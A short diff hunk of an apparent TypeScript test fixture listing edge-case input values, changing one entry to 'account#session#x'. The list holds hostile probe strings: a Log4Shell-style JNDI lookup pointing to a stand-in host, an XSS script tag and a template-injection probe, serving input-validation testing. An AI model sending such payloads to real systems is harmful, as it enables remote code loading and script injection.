@@ -73,7 +73,7 @@ const values: readonly unknown[] = [
   '${jndi:ldap://evil.example}',
   '<script>alert(1)</script>',
   '{{7*7}}',
-  'session#x',
+  'account#session#x',
   'a#b',
   'x'.repeat(63),
   'x'.repeat(64),
